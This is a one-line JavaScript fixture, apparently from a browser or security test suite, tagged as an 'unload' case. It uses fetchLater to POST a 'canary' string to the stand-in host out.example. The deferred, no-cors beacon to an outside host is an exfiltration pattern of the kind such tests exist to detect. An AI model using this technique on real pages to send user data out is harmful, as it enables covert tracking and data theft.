/* {"family": "unload"} */
fetchLater('https://out.example/later', { method: 'POST', mode: 'no-cors', body: 'canary', activateAfter: 0 });
